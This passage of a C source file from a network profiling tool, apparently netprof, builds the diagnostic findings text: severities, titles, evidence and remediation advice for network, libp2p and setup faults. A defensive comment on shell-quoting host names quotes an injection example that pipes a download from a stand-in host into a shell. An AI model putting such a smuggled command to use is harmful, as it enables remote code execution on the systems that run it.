/*
 * A finding in words, from what the model found (its cause, place,
 * cells and counts): its stable rule id, severity and category; a title
 * that names the real hosts and sites; the evidence, the figures against
 * what is typical with their sample counts; why the score is what it
 * is; and what to try, the bench documentation's advice for the libp2p
 * causes. Also one line per cell, for the text view and the page.
 */
#include <math.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "error.h"
#include "diagnose.h"
#include "diagnose_evidence.h"
#include "inventory.h"
#include "log.h"
#include "probe_kind.h"
#include "shell.h"
#include "util.h"

static const struct cause_text {
	const char *rule;
	enum dx_severity severity;
	const char *category;
} causes[DX_NCAUSES] = {
	[DX_HOST_DOWN] = { "host_down", DX_SEV_ERROR, "network" },
	[DX_HOST_UNREACHABLE] = { "host_unreachable", DX_SEV_ERROR, "setup" },
	[DX_SITE_DOWN] = { "site_down", DX_SEV_ERROR, "network" },
	[DX_SITE_PAIR_DOWN] = { "site_pair_down", DX_SEV_ERROR, "network" },
	[DX_MESH_DOWN] = { "mesh_down", DX_SEV_ERROR, "network" },
	[DX_NO_DIRECT_DIAL] = { "no_direct_dial", DX_SEV_ERROR, "libp2p" },
	[DX_HOST_BLOCKED] = { "host_blocked", DX_SEV_ERROR, "network" },
	[DX_HOST_RELAY_RESERVATION] = { "relay_reservation", DX_SEV_ERROR,
	    "libp2p" },
	[DX_HOST_LINK] = { "host_link", DX_SEV_WARNING, "network" },
	[DX_SITE_UPLINK] = { "site_uplink", DX_SEV_WARNING, "network" },
	[DX_SITE_PAIR_PATH] = { "site_pair_path", DX_SEV_WARNING, "network" },
	[DX_HOST_RELAYED] = { "relayed", DX_SEV_WARNING, "libp2p" },
	[DX_PAIR_BLOCKED] = { "pair_blocked", DX_SEV_ERROR, "network" },
	[DX_ONE_WAY] = { "one_way", DX_SEV_ERROR, "network" },
	[DX_PAIR_DEGRADED] = { "pair_degraded", DX_SEV_WARNING, "network" },
	[DX_RELAY_RESERVATION] = { "relay_reservation", DX_SEV_ERROR,
	    "libp2p" },
	[DX_RELAYED] = { "relayed", DX_SEV_WARNING, "libp2p" },
	[DX_HTTP_OVERHEAD] = { "http_overhead", DX_SEV_INFO, "libp2p" },
	[DX_INTERMITTENT] = { "intermittent_peer", DX_SEV_WARNING, "libp2p" },
	[DX_LIBP2P_DEGRADED] = { "libp2p_degraded", DX_SEV_WARNING,
	    "libp2p" },
	[DX_SETUP] = { "setup", DX_SEV_ERROR, "setup" },
	[DX_ACCESS] = { "ssh", DX_SEV_ERROR, "setup" },
	[DX_CONVERGENCE] = { "convergence", DX_SEV_WARNING, "libp2p" },
	[DX_SCATTERED] = { "scattered", DX_SEV_WARNING, "network" },
};

static const char *const severity_names[] = {
	[DX_SEV_NONE] = "none", [DX_SEV_INFO] = "info",
	[DX_SEV_WARNING] = "warning", [DX_SEV_ERROR] = "error",
};

const char *
diagnose_severity_name(enum dx_severity s)
{
	return s <= DX_SEV_ERROR ? severity_names[s] : "none";
}

enum dx_severity
diagnose_severity_parse(const char *name)
{
	int s;

	for (s = DX_SEV_INFO; s <= DX_SEV_ERROR; s++)
		if (strcmp(severity_names[s], name) == 0)
			return (enum dx_severity)s;
	return DX_SEV_NONE;
}

/* A figure with its unit, three significant digits (as the text view
 * shows cells); a millisecond below one as microseconds. */
static void
number(double v, const char *unit, char *buf, size_t size)
{
	double a = fabs(v);
	const char *u = unit != NULL ? unit : "", *sp = *u ? " " : "";

	if (isnan(v))
		snprintf(buf, size, "?");
	else if (strcmp(u, probe_unit_ms.text) == 0 && a < 1 && a > 0)
		snprintf(buf, size, "%.3g \xc2\xb5s", v * 1000);
	else if (a >= 100 || a == floor(a))
		snprintf(buf, size, "%.0f%s%s", v, sp, u);
	else if (a >= 10)
		snprintf(buf, size, "%.1f%s%s", v, sp, u);
	else if (a >= 1)
		snprintf(buf, size, "%.2f%s%s", v, sp, u);
	else
		snprintf(buf, size, "%.3g%s%s", v, sp, u);
}

void
diagnose_cell_text(const struct matrix *hm, const struct dx_cell *c,
    char *buf, size_t size)
{
	char v[40], t[40], o[40];
	size_t len;

	snprintf(buf, size, "%s %s -> %s: ", hm->kinds[c->kind].name,
	    hm->hosts[c->src], hm->hosts[c->tgt]);
	len = strlen(buf);
	if (c->error != NULL) {
		snprintf(buf + len, size - len, "failed: %s", c->error);
		return;
	}
	number(c->value, c->unit, v, sizeof v);
	number(c->typical, c->unit, t, sizeof t);
	if (c->metric != NULL)
		snprintf(buf + len, size - len, "%s %s, typical %s", c->metric,
		    v, t);
	len = strlen(buf);
	if (c->sent > 0 && len < size)
		snprintf(buf + len, size - len, "%s%d of %d lost", c->metric ?
		    ", " : "", c->lost, c->sent);
	len = strlen(buf);
	if (!isnan(c->base) && len < size) {
		number(c->base, c->unit, o, sizeof o);
		snprintf(buf + len, size - len, ", over %s %s",
		    (c->what & DX_W_DETOUR) ? "ICMP" : "the raw round trip", o);
	}
	len = strlen(buf);
	if (!isnan(c->old) && len < size) {
		number(c->old, c->unit, o, sizeof o);
		snprintf(buf + len, size - len, ", old run %s", o);
	}
}

/* --- pieces of words ---------------------------------------------------- */

static const char *
host(const struct evidence *ev, size_t h)
{
	return ev->hm->hosts[h];
}

static const char *
site(const struct evidence *ev, size_t g)
{
	return ev->hm->groups != NULL && g < ev->hm->ngroups ?
	    ev->hm->groups[g] : "(all)";
}

/* The libp2p port of host in the run.json files read, else the default. */
static int
libp2p_port(const struct matrix *hm, const char *name)
{
	size_t i, j;

	for (i = 0; i < hm->input.nruns; i++) {
		const struct run_info *run = hm->input.runs[i];

		for (j = 0; j < run->nmachines; j++)
			if (strcmp(run->machines[j], name) == 0 &&
			    run->libp2p_ports[j] > 0)
				return run->libp2p_ports[j];
	}
	return DIAGNOSE_LIBP2P_PORT;
}

/* The port its records name of f's kind with a port (iperf3), else
 * the default. */
static int
target_port(const struct evidence *ev, const struct finding *f)
{
	size_t i;

	for (i = 0; i < f->ncells; i++) {
		const struct matrix_kind *k = &ev->hm->kinds[f->cells[i].kind];
		const struct matrix_cell *c = matrix_cell_at(ev->hm, k,
		    f->cells[i].src, f->cells[i].tgt);

		const struct probe_kind *row = probe_kind_find(k->name);

		if (row == NULL || row->inbound != PROBE_INBOUND_PORT)
			continue;
		if (c->last_failed != NULL && c->last_failed->port > 0)
			return c->last_failed->port;
		if (c->port > 0)
			return c->port;
	}
	return DIAGNOSE_IPERF3_PORT;
}

/* The kind whose target's port its records name (iperf3). */
static const char *
port_kind(void)
{
	const struct probe_kind *k;

	for (k = probe_kinds; k->name != NULL; k++)
		if (k->inbound == PROBE_INBOUND_PORT)
			return k->name;
	return "the probe";
}

/* What the protocols are, as one opens them: "ICMP echo", "iperf3's TCP
 * port 5201", "the libp2p port 19091 (TCP)". */
static void
protocols(const struct evidence *ev, const struct finding *f, size_t h,
    char *buf, size_t size)
{
	size_t len = 0;

	buf[0] = '\0';
	if (f->protos & DX_PROTO_ICMP)
		len += (size_t)snprintf(buf + len, size - len, "ICMP echo");
	if ((f->protos & DX_PROTO_IPERF3) && len < size)
		len += (size_t)snprintf(buf + len, size - len,
		    "%s%s's TCP port %d", len ? ", " : "", port_kind(),
		    target_port(ev, f));
	if ((f->protos & DX_PROTO_LIBP2P) && len < size)
		snprintf(buf + len, size - len, "%sthe libp2p port %d (TCP)",
		    len ? ", " : "", libp2p_port(ev->hm, host(ev, h)));
}

/* "slow, lossy and narrow" from f's cells. */
static void
dims(const struct finding *f, char *buf, size_t size)
{
	const char *w[4];
	size_t n = 0, i, len = 0;

	if (f->what & DX_W_SLOW)
		w[n++] = "slow";
	if (f->what & DX_W_LOSS)
		w[n++] = "lossy";
	if (f->what & DX_W_NARROW)
		w[n++] = "narrow";
	if (n == 0 && (f->what & DX_W_WORSE))
		w[n++] = "worse than in the old run";
	if (n == 0)
		w[n++] = "degraded";
	buf[0] = '\0';
	for (i = 0; i < n && len < size; i++)
		len += (size_t)snprintf(buf + len, size - len, "%s%s",
		    i == 0 ? "" : i + 1 == n ? " and " : ", ", w[i]);
}

static int
cmp_double(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return (x > y) - (x < y);
}

static double
median(double *v, size_t n)
{
	if (n == 0)
		return NAN;
	qsort(v, n, sizeof *v, cmp_double);
	return n % 2 ? v[n / 2] : (v[n / 2 - 1] + v[n / 2]) / 2;
}

/* x's metric is better higher (its row's unit; a rate in Mbit/s). */
static int
higher_better(const struct probe_kind *row, const struct dx_cell *x)
{
	const struct probe_metric *m = probe_kind_metric(row, x->metric);

	if (m != NULL)
		return m->unit->higher_better;
	return strcmp(x->unit != NULL ? x->unit : "",
	    probe_unit_mbps.text) == 0;
}

/* Where on x's path its round trip rises most (its row's jump_at, jump_by
 * metrics ja, jb), into *at and *by when it rises more than *by. */
static void
path_jump(const struct matrix *hm, const struct matrix_kind *kind,
    const struct dx_cell *x, int ja, int jb, double *by, double *at)
{
	const struct matrix_cell *c = matrix_cell_at(hm, kind, x->src, x->tgt);

	if (c->state != CELL_VALUE || isnan(c->values[jb]) ||
	    isnan(c->values[ja]) || c->values[jb] <= *by)
		return;
	*by = c->values[jb];
	*at = c->values[ja];
}

/* The evidence of one kind's cells in f, appended to b. */
static int
kind_evidence(const struct evidence *ev, const struct finding *f, size_t k,
    struct buf *b)
{
	const struct matrix_kind *kind = &ev->hm->kinds[k];
	const struct probe_kind *row = probe_kind_find(kind->name);
	double *val = NULL, *typ = NULL, *fac = NULL, *base = NULL;
	double jump = NAN, jump_at = NAN;
	size_t i, n = 0, nv = 0, nfail = 0, nf = 0, nsetup = 0, nb = 0;
	int ja = -1, jb = -1;
	const char *err = NULL, *metric = NULL, *unit = NULL;
	char a[40], c[40];
	int rc = 0, lost = 0, sent = 0;
	struct buf p = { 0 };

	for (i = 0; i < f->ncells; i++)
		n += f->cells[i].kind == k;
	if (n == 0)
		return 0;
	if ((val = malloc(n * sizeof *val)) == NULL ||
	    (typ = malloc(n * sizeof *typ)) == NULL ||
	    (fac = malloc(n * sizeof *fac)) == NULL ||
	    (base = malloc(n * sizeof *base)) == NULL) {
		rc = NP_ERR_NOMEM;
		goto out;
	}
	if (row != NULL && row->judge.jump_at != NULL) {
		ja = matrix_find_metric(kind, row->judge.jump_at);
		jb = matrix_find_metric(kind, row->judge.jump_by);
	}
	for (i = 0; i < f->ncells; i++) {
		const struct dx_cell *x = &f->cells[i];

		if (x->kind != k)
			continue;
		if (ja >= 0 && jb >= 0 && (x->what & DX_W_SLOW))
			path_jump(ev->hm, kind, x, ja, jb, &jump, &jump_at);
		if (x->what & DX_W_FAIL)
			nfail++;
		if (x->what & DX_W_SETUP)
			nsetup++;
		if (x->error != NULL && err == NULL)
			err = x->error;
		if (x->sent > 0) {
			lost += x->lost;
			sent += x->sent;
		}
		if (!isnan(x->value) && (x->what & (DX_W_SLOW | DX_W_NARROW |
		    DX_W_DETOUR | DX_W_GAP))) {
			val[nv] = x->value;
			typ[nv++] = x->typical;
			metric = x->metric;
			unit = x->unit;
		}
		if (!isnan(x->base))
			base[nb++] = x->base;
		if (!isnan(x->value) && !isnan(x->old) && (x->what &
		    DX_W_WORSE))
			fac[nf++] = x->old > 0 && x->value > 0 ?
			    (higher_better(row, x) ? x->old / x->value :
			    x->value / x->old) : NAN;
	}
	if (nfail + nsetup > 0)
		buf_printf(&p, " %zu pair%s failed%s%s%s", nfail + nsetup,
		    PLURAL(nfail + nsetup), err != NULL ? " (\"" : "",
		    err != NULL ? err : "", err != NULL ? "\")" : "");
	if (nv > 0) {
		double mv = median(val, nv), mt = median(typ, nv);

		number(mv, unit, a, sizeof a);
		number(mt, unit, c, sizeof c);
		if (nv == 1)
			buf_printf(&p, "%s %s %s against %s typical of its "
			    "site pair%s", p.len ? "," : "", metric, a, c,
			    f->one_test ? ", in one test" : "");
		else if (f->scope == DX_SCOPE_PAIR)
			buf_printf(&p, "%s %s %s against %s typical of its "
			    "site pair (medians of both ways)", p.len ? "," :
			    "", metric, a, c);
		else
			buf_printf(&p, "%s median %s %s against %s typical of "
			    "their site pairs, over %zu pairs", p.len ? "," :
			    "", metric, a, c, nv);
	}
	if (nb > 0) {
		number(median(base, nb), unit, a, sizeof a);
		buf_printf(&p, "%s over %s %s on the same pair%s", p.len ? "," :
		    "", row != NULL && row->judge.base != NULL ?
		    row->judge.base : "its base", a, PLURAL(nb));
	}
	if (!isnan(jump) && !isnan(jump_at)) {
		number(jump, probe_unit_ms.text, a, sizeof a);
		buf_printf(&p, "%s the round trip rises most at hop %.0f (by "
		    "%s)", p.len ? "," : "", jump_at, a);
	}
	if (sent > 0 && (f->what & DX_W_LOSS) && f->loss_kind == NULL)
		buf_printf(&p, "%s %d of %d samples lost", p.len ? "," : "",
		    lost, sent);
	if (nf > 0) {
		double mf = median(fac, nf);

		if (nf == 1)
			buf_printf(&p, "%s %.2fx worse than the old run",
			    p.len ? "," : "", mf);
		else if (f->scope == DX_SCOPE_PAIR)
			buf_printf(&p, "%s %.2fx worse than the old run "
			    "(median of both ways)", p.len ? "," : "", mf);
		else
			buf_printf(&p, "%s worse than the old run on %zu "
			    "pairs (median %.2fx)", p.len ? "," : "", nf, mf);
	}
	if (p.len > 0)
		buf_printf(b, "%s%s:%s", b->len ? "; " : "", kind->name,
		    p.data);
	buf_free(&p);
out:
	free(val);
	free(typ);
	free(fac);
	free(base);
	return rc;
}

static int
evidence_words(const struct evidence *ev, struct finding *f)
{
	struct buf b = { 0 };
	size_t k, i;
	int rc = 0;

	if (f->cause == DX_CONVERGENCE) {
		if (isnan(f->elapsed_s))
			buf_printf(&b, "run.json: convergence of %s incomplete",
			    host(ev, f->place[0]));
		else
			buf_printf(&b, "run.json: %s gave up after %.1f s "
			    "without the whole mesh in its table",
			    host(ev, f->place[0]), f->elapsed_s);
	}
	if (f->loss_kind != NULL && f->sent > 0)
		buf_printf(&b, "%s: %zu of %zu samples lost (%.3g %%) on %s, "
		    "%.2g %% elsewhere", f->loss_kind, f->lost, f->sent,
		    100.0 * (double)f->lost / (double)f->sent,
		    f->scope == DX_SCOPE_PAIR ? "this pair" : "its pairs",
		    isnan(f->ref_rate) ? 0 : 100 * f->ref_rate);
	for (k = 0; k < ev->hm->nkinds && rc == 0; k++) {
		for (i = 0; i < f->ncells && f->cells[i].kind != k; i++)
			;
		if (i < f->ncells)
			rc = kind_evidence(ev, f, k, &b);
	}
	if (rc == 0 && f->cells_more > 0)
		buf_printf(&b, " (and %zu more cells)", f->cells_more);
	if (rc != 0 || b.data == NULL) {
		buf_free(&b);
		return rc != 0 ? rc : (f->evidence = strdup("")) == NULL ?
		    NP_ERR_NOMEM : 0;
	}
	f->evidence = b.data;
	return 0;
}

/* The first error text of f's cells that contains words, or NULL. */
static const char *
error_with(const struct finding *f, const char *words)
{
	size_t i;

	for (i = 0; i < f->ncells; i++)
		if (f->cells[i].error != NULL && strcasestr(f->cells[i].error,
		    words) != NULL)
			return f->cells[i].error;
	return NULL;
}

static const char *
first_error(const struct finding *f)
{
	size_t i;

	for (i = 0; i < f->ncells; i++)
		if (f->cells[i].error != NULL)
			return f->cells[i].error;
	return "";
}

/* The kinds of f's cells: "ping, iperf3". */
static void
kinds_of(const struct evidence *ev, const struct finding *f, char *buf,
    size_t size)
{
	size_t k, i, len = 0;

	buf[0] = '\0';
	for (k = 0; k < ev->hm->nkinds && len < size; k++) {
		for (i = 0; i < f->ncells && f->cells[i].kind != k; i++)
			;
		if (i < f->ncells)
			len += (size_t)snprintf(buf + len, size - len, "%s%s",
			    len ? ", " : "", ev->hm->kinds[k].name);
	}
}

/*
 * A name from the records as a word of a command line the advice offers:
 * as it is when it keeps the inventory's name rule, else shell-quoted (a
 * record file is anyone's: "x;curl evil|sh" must stay one word). A new
 * string, NULL when out of memory.
 */
static char *
cmd_word(const char *name)
{
	return inventory_name_valid(name) ? strdup(name) : shell_quote(name);
}

static const char *
way(const struct finding *f, const char *out, const char *in,
    const char *both)
{
	return f->dir == DX_DIR_OUT ? out : f->dir == DX_DIR_IN ? in : both;
}

/* A setup failure's cause and what to do, from the tool's words. */
static int
setup_words(const struct evidence *ev, struct finding *f)
{
	const char *h = host(ev, f->place[0]), *e = first_error(f);
	char *w;

	if (f->cause == DX_ACCESS) {
		f->title = str_printf("netprof could not reach %s over SSH for "
		    "%zu probe%s (the network to it may be fine)", h, f->nbad,
		    PLURAL(f->nbad));
		if ((w = cmd_word(h)) != NULL)
			f->advice = str_printf("Run netprof check --config FILE "
			    "--hosts %s: it names the reason (sshd, its port, "
			    "the host key, the login) and the fix.", w);
		free(w);
	} else if (error_with(f, "ping broadcast") != NULL) {
		f->title = str_printf("%s's address is a broadcast address: "
		    "ping refuses it (the tool, not the network)", h);
		f->advice = str_printf("Give %s its own address in "
		    "machines.json (machines[].address), not the broadcast "
		    "address of its network.", h);
	} else if (error_with(f, "exec format error") != NULL ||
	    error_with(f, "cannot execute") != NULL) {
		f->title = str_printf("a binary on %s is for another "
		    "architecture (%s)", h, e);
		f->advice = strdup("Put the binary for the host's architecture "
		    "first on PATH: remote_setup \"export PATH=$HOME/bin/"
		    "$(uname -m):$PATH\" in machines.json, or --otela-bin DIR.");
	} else if (error_with(f, "not installed") != NULL ||
	    error_with(f, "not found") != NULL ||
	    error_with(f, "not on path") != NULL) {
		f->title = str_printf("a tool is missing on %s: %s", h, e);
		f->advice = str_printf("Install it on %s, or put it on PATH "
		    "with remote_setup in machines.json; netprof check --for "
		    "collect|iperf|bench lists what each host lacks.", h);
	} else if (error_with(f, "text file busy") != NULL) {
		f->title = str_printf("a previous otela still runs on %s and "
		    "holds its binary", h);
		f->advice = strdup("Tear the earlier run down: netprof bench "
		    "--teardown RUN (its run id), then run again.");
	} else if (error_with(f, "already in use") != NULL ||
	    error_with(f, "busy") != NULL) {
		f->title = str_printf("a port netprof needs on %s is taken (%s)",
		    h, e);
		f->advice = str_printf("Something else holds the port on %s: "
		    "wait for it, or give another (iperf_port, --iperf-port, "
		    "libp2p_port).", h);
	} else {
		f->title = str_printf("the tool failed on %s (setup, not the "
		    "network): %s", h, e);
		f->advice = str_printf("Run the probe by hand to see the "
		    "tool's whole output on %s; the record's command field is "
		    "the line as the records file gives it (anyone may have "
		    "written it): read it before you run it.", h);
	}
	f->why = str_printf("score %.2f: the tool's or SSH's own error, read "
	    "from %zu record%s", f->score, f->nbad, PLURAL(f->nbad));
	return f->title != NULL && f->advice != NULL && f->why != NULL ? 0 :
	    NP_ERR_NOMEM;
}

static int
title_words(const struct evidence *ev, struct finding *f)
{
	const char *a = host(ev, f->place[0]), *b = host(ev, f->place[1]);
	const char *sa = site(ev, f->place[0]), *sb = site(ev, f->place[1]);
	char p[160], d[64], k[96], *wa = NULL, *wb = NULL;
	int ssh_only = !(f->what & DX_W_FAIL);

	protocols(ev, f, f->place[0], p, sizeof p);
	dims(f, d, sizeof d);
	kinds_of(ev, f, k, sizeof k);
	switch (f->cause) {
	case DX_HOST_DOWN:
		f->title = ssh_only ? str_printf("%s is down or unreachable: "
		    "netprof could not reach it, and no ICMP baseline tells a "
		    "host down from its sshd", a) : str_printf("%s is down or "
		    "cut off: every pair to and from it fails (%s)", a, k);
		f->advice = str_printf("Check that %s is up and on the "
		    "network: its console or power, its link, its switch "
		    "port; nothing reaches it and netprof could not log in.",
		    a);
		break;
	case DX_HOST_UNREACHABLE:
		f->title = str_printf("netprof cannot reach %s over SSH: its "
		    "probes did not run, while what others send to it "
		    "arrives", a);
		if ((wa = cmd_word(a)) != NULL)
			f->advice = str_printf("Check %s's sshd and what guards "
			    "its SSH port; netprof check --config FILE --hosts "
			    "%s names the reason.", a, wa);
		break;
	case DX_SITE_DOWN:
		f->title = str_printf("site %s is cut off: every pair across "
		    "its uplink fails (%s)", sa, k);
		f->advice = str_printf("Check site %s's uplink (its router, "
		    "the link to the other sites), or whether all its hosts "
		    "are down.", sa);
		break;
	case DX_SITE_PAIR_DOWN:
		f->title = str_printf("sites %s and %s cannot reach each other: "
		    "every pair between them fails (%s)", sa, sb, k);
		f->advice = str_printf("Check the path between %s and %s: a "
		    "route or a firewall between the two sites (traceroute "
		    "from a host of each).", sa, sb);
		break;
	case DX_MESH_DOWN:
		f->title = str_printf("every pair fails for %s (%s)", p, k);
		f->advice = strdup("Something every host shares: a firewall "
		    "policy on every host for this protocol, or the tool's "
		    "setup (see the error).");
		break;
	case DX_NO_DIRECT_DIAL:
		f->title = strdup("the peers cannot dial each other directly: "
		    "libp2p probes fail with \"dial backoff\" between every "
		    "pair");
		f->advice = strdup("The peers know each other but cannot dial "
		    "each other directly. Add a relay node that every peer "
		    "can reach with --bootstrap.");
		break;
	case DX_HOST_BLOCKED:
		f->title = f->dir == DX_DIR_IN ? str_printf("%s refuses %s from "
		    "every other host; what it sends works", a, p) :
		    f->dir == DX_DIR_OUT ? str_printf("what %s sends by %s is "
		    "blocked; what it receives works", a, p) :
		    str_printf("%s's %s is blocked both ways; its other "
		    "protocols work", a, p);
		f->advice = f->dir == DX_DIR_OUT ? str_printf("Open %s on %s "
		    "for what it sends (its outbound firewall), or relay the "
		    "traffic.", p, a) : str_printf("Open %s on %s (its inbound "
		    "firewall: nft list ruleset, iptables -S), or relay the "
		    "traffic.", p, a);
		break;
	case DX_HOST_RELAY_RESERVATION:
	case DX_RELAY_RESERVATION:
		f->title = f->scope == DX_SCOPE_HOST ? str_printf("HTTP over "
		    "libp2p to %s fails while libp2p_ping works: a relay v2 "
		    "reservation problem", a) : str_printf("%s %s %s: HTTP "
		    "over libp2p fails while libp2p_ping works: a relay v2 "
		    "reservation problem", a, way(f, "->", "<-", "<->"), b);
		f->advice = strdup("Relay v2 reservation issue: the relay passes "
		    "small ping packets but does not grant these workers the "
		    "reservations needed for full bidirectional streams. Use a "
		    "relay that grants v2 reservations, or run the worker side "
		    "on a compute node with port forwarding.");
		break;
	case DX_HOST_LINK:
		f->title = str_printf("%s's own link is %s%s: its pairs "
		    "against the other hosts' pairs of the same sites", a, d,
		    way(f, " (what it sends)", " (what it receives)", ""));
		f->advice = str_printf("Check %s's own link: its NIC, cable "
		    "and switch port (ip -s link, ethtool: errors, drops, "
		    "speed, duplex), its qdisc (tc qdisc show), its CPU.", a);
		break;
	case DX_SITE_UPLINK:
		f->title = str_printf("site %s's uplink is %s: every pair across "
		    "it, and only those", sa, d);
		f->advice = str_printf("Check what every pair leaving %s shares: "
		    "its router or the WAN link (errors, queue, a rate limit).",
		    sa);
		break;
	case DX_SITE_PAIR_PATH:
		f->title = str_printf("the path between sites %s and %s is %s: "
		    "every pair between them, and only those", sa, sb, d);
		f->advice = str_printf("Check the route between %s and %s "
		    "(traceroute or mtr from a host of each, both ways).", sa,
		    sb);
		break;
	case DX_HOST_RELAYED:
	case DX_RELAYED:
		f->title = f->scope == DX_SCOPE_HOST ? str_printf("%s's libp2p "
		    "traffic takes a detour (relayed): libp2p_ping far above "
		    "ICMP on its pairs", a) : str_printf("%s %s %s: libp2p "
		    "takes a detour (relayed): libp2p_ping far above the ICMP "
		    "round trip", a, way(f, "->", "<-", "<->"), b);
		f->advice = strdup("The libp2p path takes a detour the IP path "
		    "does not: the pair talks through a relay (a circuit "
		    "address) instead of directly. Check that both peers' "
		    "libp2p ports are reachable from each other (hole "
		    "punching, firewalls), or place the relay closer to them.");
		break;
	case DX_PAIR_BLOCKED:
		f->title = str_printf("%s <-> %s fails both ways (%s); each "
		    "works with other hosts", a, b, p);
		f->advice = str_printf("A firewall rule or route between %s and "
		    "%s: check each host's rules for the other's address, and "
		    "the path (traceroute both ways).", a, b);
		break;
	case DX_ONE_WAY:
		protocols(ev, f, f->place[1], p, sizeof p);
		f->title = str_printf("%s -> %s fails, %s -> %s works (%s)", a,
		    b, b, a, p);
		f->advice = str_printf("%s drops what %s sends (%s), or the "
		    "path %s -> %s does: check %s's inbound rules for %s's "
		    "address, and the route back.", b, a, p, a, b, b, a);
		break;
	case DX_PAIR_DEGRADED:
		if (f->one_test) {
			f->title = str_printf("%s -> %s was %s in one test "
			    "against its site pair's typical value (%s -> %s "
			    "was not): to confirm", a, b, d, b, a);
			if ((wa = cmd_word(a)) != NULL &&
			    (wb = cmd_word(b)) != NULL)
				f->advice = str_printf("One throughput test, "
				    "one way, and nothing else on the pair says "
				    "so: a short TCP test now and then "
				    "collapses. Measure the pair again (netprof "
				    "collect --iperf -H %s,%s, or read two runs "
				    "together with netprof heatmap --aggregate "
				    "median); if it holds, check the path %s -> "
				    "%s (mtr both ways, a rule that shapes it).",
				    wa, wb, a, b);
			break;
		}
		f->title = f->dir == DX_DIR_BOTH ? str_printf("%s <-> %s is %s "
		    "against its site pair's typical value, both ways", a, b,
		    d) : str_printf("%s -> %s is %s against its site pair's "
		    "typical value, one way (%s -> %s is not)", a, b, d, b, a);
		f->advice = str_printf("The path between %s and %s: mtr or "
		    "traceroute both ways; a route other than their sites' "
		    "other pairs take, or a rule that shapes this pair.", a,
		    b);
		break;
	case DX_HTTP_OVERHEAD:
		f->title = str_printf("%s %s %s: HTTP over libp2p far above "
		    "the raw round trip (its overhead)", a, way(f, "->", "<-",
		    "<->"), b);
		f->advice = strdup("The difference is HTTP-over-libp2p overhead "
		    "(TLS, stream multiplexing) over raw round trips. Useful "
		    "when tuning request sizes; if libp2p_ping is also far "
		    "above ICMP, the path is relayed.");
		break;
	case DX_INTERMITTENT:
		f->title = str_printf("%s %s %s: an intermittently reachable "
		    "peer (libp2p_ping lost samples)", a, way(f, "->", "<-",
		    "<->"), b);
		f->advice = strdup("The peer is intermittently reachable. Look "
		    "at samples_ns for the surviving samples and repeat the "
		    "run to see whether it persists.");
		break;
	case DX_LIBP2P_DEGRADED:
		if (f->one_test) {
			f->title = str_printf("%s -> %s: libp2p was %s in one "
			    "test while ICMP was not (%s -> %s was not): to "
			    "confirm", a, b, d, b, a);
			f->advice = str_printf("One transfer, one way, and "
			    "nothing else on the pair says so: a short "
			    "transfer through a loaded node now and then "
			    "collapses. Measure again with more transfers "
			    "(netprof bench --throughput-count 3), or read "
			    "two runs together with netprof heatmap "
			    "--aggregate median; if it holds, look at the "
			    "nodes' load on %s and %s.", a, b);
			break;
		}
		f->title = str_printf("%s %s %s: libp2p is %s while ICMP is "
		    "not", a, way(f, "->", "<-", "<->"), b, d);
		f->advice = str_printf("The libp2p nodes or their path: compare "
		    "with the pair's ICMP, look at the nodes' load on %s and "
		    "%s, and repeat the run.", a, b);
		break;
	case DX_SCATTERED:
		f->title = (f->what & DX_W_FAIL) ? str_printf("%zu probes fail "
		    "across the mesh (%s), no host, site or pair behind them",
		    f->nbad, k) : str_printf("%zu pairs are %s against their "
		    "site pair's typical value, scattered across the mesh (%s)",
		    f->nbad, d, k);
		f->advice = (f->what & DX_W_FAIL) ? strdup("Failures spread "
		    "over the mesh without a pattern: the probes' limits "
		    "(timeouts, a node's load) or paths that fail now and "
		    "then; read the errors (the most common is in the "
		    "evidence) and repeat the run.") : strdup("Scattered "
		    "slowness without a pattern: the load of the hosts or of "
		    "the machines between them while measuring; repeat the "
		    "run at a quieter time.");
		break;
	case DX_CONVERGENCE:
		f->title = str_printf("%s did not see the whole mesh in time "
		    "(convergence incomplete)", a);
		f->advice = strdup("These hosts did not see the full mesh in "
		    "their DHT table in time; their outbound firewalls pass "
		    "fewer discovery exchanges. Try a closer-by bootstrap for "
		    "them (bootstrap_extra in machines.json).");
		break;
	default:
		return setup_words(ev, f);
	}
	free(wa);
	free(wb);
	return f->title != NULL && f->advice != NULL ? 0 : NP_ERR_NOMEM;
}

static int
why_words(const struct evidence *ev, struct finding *f)
{
	(void)ev;
	if (f->why != NULL)
		return 0;
	switch (f->cause) {
	case DX_CONVERGENCE:
		f->why = str_printf("score %.2f: run.json says so", f->score);
		break;
	case DX_PAIR_BLOCKED:
	case DX_ONE_WAY:
	case DX_RELAY_RESERVATION:
		f->why = str_printf("score %.2f: %zu failed record%s of this "
		    "pair and no cause of more pairs (its hosts work with "
		    "others); the more failed kinds and ways, the surer", f->score,
		    f->nbad, PLURAL(f->nbad));
		break;
	case DX_PAIR_DEGRADED:
	case DX_RELAYED:
	case DX_HTTP_OVERHEAD:
	case DX_INTERMITTENT:
	case DX_LIBP2P_DEGRADED:
		f->why = str_printf("score %.2f: %zu of the pair's %zu measured "
		    "cells (kinds and ways) are off, no cause of more pairs "
		    "explains them; times n/(n+1), and less where they are "
		    "barely beyond their kind's noise%s", f->score, f->nbad,
		    f->nexpected > f->nbad ? f->nexpected : f->nbad,
		    f->one_test ? "; info, not a warning: one test" : "");
		break;
	case DX_SCATTERED:
		f->why = str_printf("score %.2f: %zu bad cells of %zu measured, "
		    "no cause of a host, site or pair explains them; the score "
		    "falls as one host holds more of them", f->score, f->nbad,
		    f->nexpected);
		break;
	default:
		if (f->loss_kind != NULL)
			f->why = str_printf("score %.2f: samples lost on %zu "
			    "bad cells it explains, pooled against every other "
			    "cell and still so without the peer that lost most",
			    f->score, f->nbad);
		else
			f->why = str_printf("score %.2f: %zu of the %zu cells "
			    "this cause predicts bad are, the others "
			    "contradict it; times n/(n+1) for their number",
			    f->score, f->nbad, f->nexpected > f->nbad ?
			    f->nexpected : f->nbad);
		break;
	}
	return f->why != NULL ? 0 : NP_ERR_NOMEM;
}

int
diagnose_findings_words(const struct evidence *ev, struct finding *f)
{
	const struct cause_text *c = &causes[f->cause < DX_NCAUSES ? f->cause :
	    DX_SETUP];
	int rc;

	f->rule = c->rule;
	f->severity = c->severity;
	f->category = c->category;
	if (f->cause == DX_SCATTERED && (f->what & DX_W_FAIL))
		f->severity = DX_SEV_ERROR;
	if (f->one_test)
		f->severity = DX_SEV_INFO;
	if ((f->cause == DX_PAIR_BLOCKED || f->cause == DX_ONE_WAY ||
